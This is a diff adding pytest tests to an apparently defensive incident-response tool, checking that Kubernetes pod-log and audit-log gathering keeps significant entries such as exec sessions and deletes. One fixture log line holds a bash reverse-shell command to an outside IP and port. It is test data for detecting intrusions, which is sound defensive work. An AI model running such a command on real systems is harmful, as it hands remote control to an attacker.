@@ -10,7 +10,7 @@ from pathlib import Path
 import pytest
 
 from responder.errors import Unanswered, Why
-from responder.evidence import AuditEntry, Evidence, Found, Missing, Node
+from responder.evidence import AuditEntry, Evidence, Found, LogEntry, Missing, Node
 from responder.finding import Finding
 from responder.gather import gather
 from responder.ports import LogPages
@@ -238,3 +238,53 @@ def test_what_was_gathered_is_let_go_of_at_once_and_not_when_the_collector_comes
         assert held() is None
     finally:
         gc.enable()
+
+
+def test_a_line_that_tells_something_is_kept_though_a_hundred_others_are_nearer(finding: Finding) -> None:
+    told = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
+    lines = [_a_line(finding, seconds, "GET /healthz 200") for seconds in range(-60, 61)]
+    pages = LogPages(entries=(*lines, _a_line(finding, 300, told)), pages=1, truncated=False)
+    outside, calls = world(finding)
+    evidence = gather(replace(outside, logs=FakeLogs(calls, pages)), finding, finding.targets()[0]).evidence
+    assert isinstance(evidence.pod_log, Found)
+    log = evidence.pod_log.value
+    assert (len(log.entries), log.entries[-1].text, log.truncated) == (100, told, True)
+
+
+def _a_line(finding: Finding, seconds: float, text: str) -> LogEntry:
+    return LogEntry(
+        time=finding.event_time + timedelta(seconds=seconds),
+        severity="INFO",
+        log_name="stdout",
+        insert_id=f"{seconds}",
+        container="c",
+        text=text,
+    )
+
+
+def test_of_many_audit_entries_sessions_and_deletes_are_kept_and_then_the_nearest(finding: Finding) -> None:
+    ref = finding.pods[0]
+    resource = f"core/v1/namespaces/{ref.namespace}/pods/{ref.name}"
+    ours = [
+        AuditEntry(
+            time=finding.event_time + timedelta(seconds=seconds),
+            method=f"io.k8s.core.v1.pods.{verb}",
+            resource_name=resource,
+            principal="x",
+            caller_ip="",
+            user_agent="",
+            status="OK",
+            session="exec" if verb == "exec.create" else None,
+            command=(),
+        )
+        for seconds, verb in [*((n, "patch") for n in range(-200, -20)), (900, "exec.create"), (1800, "delete")]
+    ]
+    outside, calls = world(finding)
+    logs = FakeLogs(calls, LogPages(audit=tuple(ours), pages=1, truncated=False))
+    evidence = gather(replace(outside, logs=logs), finding, finding.targets()[0]).evidence
+    assert isinstance(evidence.audit_log, Found)
+    log = evidence.audit_log.value
+    assert [entry.method.rpartition("pods.")[2] for entry in log.entries[-2:]] == ["exec.create", "delete"]
+    nearest = (finding.event_time - timedelta(seconds=118), finding.event_time - timedelta(seconds=21))
+    assert (len(log.entries), log.entries[0].time, log.entries[-3].time) == (100, *nearest)
+    assert log.truncated
